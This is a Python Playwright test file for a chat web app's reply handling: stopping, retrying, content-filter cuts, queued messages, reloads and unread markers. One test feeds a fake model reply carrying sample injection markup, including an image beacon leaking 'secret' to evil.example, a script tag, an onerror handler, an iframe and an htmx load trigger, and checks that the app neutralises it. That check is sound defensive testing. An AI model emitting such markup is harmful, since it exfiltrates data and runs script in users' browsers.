"""Replies in the browser: streaming, stopped, failed, waiting, and after a reload."""

import re
import time
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import APIResponse, Route, expect

from chats.web.reasons import LEFT_OUT
from tests.browser.desk import Person, wait_until
from tests.browser.product import Product
from tests.fakes.fake_server import FakeServer
from tests.support.browser_chats import SLOW_REPLY, start_chat_with_model


def test_a_reply_is_stopped_in_the_middle_and_can_be_continued(
    admin: Person, connected: str
) -> None:
    start_chat_with_model(admin, f"Count slowly {SLOW_REPLY}")
    expect(admin.live).to_contain_text(" 5@")
    admin.page.keyboard.press("Escape")

    expect(admin.page.locator("[data-live]")).to_have_count(0)
    expect(admin.reply).to_contain_text("stopped")
    expect(admin.reply).to_contain_text(" 5@")
    expect(admin.page.locator("#status")).to_have_text("Reply stopped.")
    assert " 399@" not in admin.reply.inner_text()
    admin.reply.get_by_role("button", name="Continue reply").click()
    expect(admin.reply).to_contain_text("continued")
    admin.wait_for_reply()


def test_a_failed_reply_says_why_and_is_tried_again(
    admin: Person, connected: str, scripted: FakeServer
) -> None:
    scripted.configure(faults=[{"fault": "404", "match": "first try", "times": 1}])
    start_chat_with_model(admin, "A first try")

    outcome = admin.page.locator(".notice--danger")
    expect(outcome.locator("code")).to_have_text("provider_rejected")
    expect(admin.page.locator(".msg--user:not(.is-sending)")).to_contain_text("A first try")
    admin.page.get_by_role("button", name="Try again").click()

    admin.wait_for_reply()
    expect(admin.reply).to_contain_text(" 0@")
    expect(outcome).to_have_count(0)
    expect(admin.page.locator(".msg--user")).to_have_count(1)


def test_a_reply_cut_by_a_filter_says_so_and_is_kept_only_if_wanted(
    admin: Person, connected: str, scripted: FakeServer
) -> None:
    scripted.configure(faults=[{"fault": "filter", "match": "filtered", "times": 1}])
    start_chat_with_model(admin, "This is filtered [[fake tokens=5]]")

    outcome = admin.page.locator(".notice--danger")
    expect(outcome.locator("code")).to_have_text("content_filtered")
    expect(admin.reply.locator("[data-note=filtered-reply]")).to_be_visible()
    expect(admin.reply).to_contain_text(" 4@")
    expect(admin.reply).to_have_attribute("data-sent", "none")
    expect(admin.reply.locator("[data-where]")).to_have_text(str(LEFT_OUT["incomplete"].beside))
    assert not admin.scrolls_sideways()

    admin.send("And now? [[fake tokens=3]]")
    sent = str(scripted.requests()[-1]["body"]["messages"])
    assert "This is filtered" in sent
    assert " 4@" not in sent
    admin.page.get_by_role("button", name="Keep reply").click()
    expect(admin.page.locator("[data-note=filtered-kept]")).to_be_visible()


# The progress of the reply in each frame; the fake server numbers the tokens.
WATCH = """
window.heights = [];
(function look() {
  const words = document.querySelector("[data-live] > .msg__body")?.textContent ?? "";
  const numbers = [...words.matchAll(/(\\d+)@/g)].map(([, number]) => Number(number));
  if (numbers.length) heights.push(Math.max(...numbers));
  requestAnimationFrame(look);
})();
"""


def test_words_never_go_back_when_a_message_is_sent_during_a_reply(
    admin: Person, connected: str
) -> None:
    start_chat_with_model(admin, f"Count slowly {SLOW_REPLY}")
    expect(admin.live).to_contain_text(" 25@")
    admin.value(WATCH)
    admin.type("And another thing")
    expect(
        admin.page.locator(".msg--user:not(.is-sending)", has_text="another thing")
    ).to_be_visible()
    expect(admin.live).to_contain_text(" 70@")
    heights: list[int] = admin.value("heights")
    assert heights == sorted(heights)
    admin.page.keyboard.press("Escape")


def test_a_message_sent_during_a_reply_waits_and_is_answered(admin: Person, connected: str) -> None:
    start_chat_with_model(admin, "Count slowly [[fake tokens=200 ms=50]]")
    expect(admin.live).to_contain_text(" 3@")
    expect(admin.page.locator("#send")).to_have_text("Send next")
    admin.type("And then?")

    waiting = admin.page.locator(".msg--user", has_text="And then?")
    expect(waiting).to_contain_text("waiting")
    expect(admin.live).to_contain_text(re.compile(r" [1-9]\d@"))
    admin.wait_for_reply()
    expect(waiting).not_to_contain_text("waiting")
    expect(admin.page.locator(".msg--user")).to_have_count(2)
    assert admin.page.locator("article.msg").last.get_attribute("id") == admin.reply.get_attribute(
        "id"
    )


def test_a_message_sent_at_the_end_of_a_reply_repeats_no_other(
    admin: Person, connected: str
) -> None:
    start_chat_with_model(admin, "The first question [[fake tokens=20 ms=20]]")
    ends: list[Route] = []
    sent: list[tuple[Route, APIResponse]] = []
    admin.page.route("**/tail?*", lambda route: ends.append(route))
    admin.page.route("**/messages", lambda route: sent.append((route, route.fetch())))
    wait_until(admin.page, lambda: bool(ends), "the end of the reply")
    admin.type("The second question")
    wait_until(admin.page, lambda: bool(sent), "the response to the message")
    for route in ends:
        route.continue_()
    second = admin.page.locator("#messages .msg--user", has_text="The second question")
    expect(second).to_have_count(1)
    admin.page.unroute("**/tail?*")
    [(route, response)] = sent
    route.fulfill(response=response)
    expect(admin.page.locator("#sending article")).to_have_count(0)
    expect(admin.page.locator("#composer-text")).to_have_value("")
    admin.wait_for_reply()
    ids = admin.page.locator("article.msg").evaluate_all("(all) => all.map(({ id }) => id)")
    assert len(ids) == len(set(ids)) == 4
    expect(second).to_have_count(1)


def test_a_reload_in_the_middle_keeps_the_text_and_goes_on(admin: Person, connected: str) -> None:
    start_chat_with_model(admin, "Count slowly [[fake tokens=120 ms=30]]")
    expect(admin.live).to_contain_text(" 20@")
    admin.page.reload()

    expect(admin.live).to_contain_text(" 20@")
    admin.wait_for_reply()
    found = re.findall(r"(\d+)@", admin.reply.inner_text())
    assert found == [str(number) for number in range(120)]


@pytest.mark.requirement("S5")
def test_a_hostile_reply_asks_nobody_and_runs_nothing(
    admin: Person, connected: str, scripted: FakeServer
) -> None:
    hostile = (
        "![pixel](https://evil.example/p.png?q=secret) "
        "[the bank](https://evil.example/login) "
        '<img src="https://evil.example/i.png" onerror="document.title=1"> '
        '<iframe src="https://evil.example/f"></iframe>'
        '<link rel="prefetch" href="https://evil.example/x">'
        '<style>@import url("https://evil.example/c.css")</style>'
        "<script>document.title = 'taken'</script> "
        '<div hx-get="https://evil.example/h" hx-trigger="load">x</div> the end'
    )
    scripted.configure(replies=[{"text": hostile, "match": "be hostile"}])
    start_chat_with_model(admin, "Please be hostile")

    admin.wait_for_reply()
    expect(admin.reply).to_contain_text("the end")
    expect(admin.reply).to_contain_text("evil.example")
    expect(admin.reply.locator("img, iframe, script, style, link, [hx-get]")).to_have_count(0)
    link = admin.reply.get_by_role("link", name="the bank")
    assert "noopener" in str(link.get_attribute("rel"))
    admin.page.reload()
    expect(admin.reply).to_contain_text("the end")
    assert admin.page.title() != "taken"
    assert admin.foreign == []


def test_a_reply_in_another_chat_is_unread_until_it_is_seen(
    admin: Person, open_tab: Callable[..., Person], product: Product, signed_in: Any, connected: str
) -> None:
    start_chat_with_model(admin, "Unread one [[fake tokens=100 ms=30]]")
    expect(admin.live).to_be_visible()
    admin.open("/chats/new")
    item = admin.page.locator("#chat-list li", has_text="Unread one").first
    expect(item.locator(".dot--live")).to_be_visible()
    give_up = time.monotonic() + 30
    while time.monotonic() < give_up and not item.get_by_text("unread reply").count():
        admin.page.wait_for_timeout(200)
        admin.page.reload()
    expect(item).to_contain_text("unread reply")
    item.get_by_role("link").click()
    expect(admin.reply).to_contain_text(" 29@")
    expect(item).not_to_contain_text("unread reply")
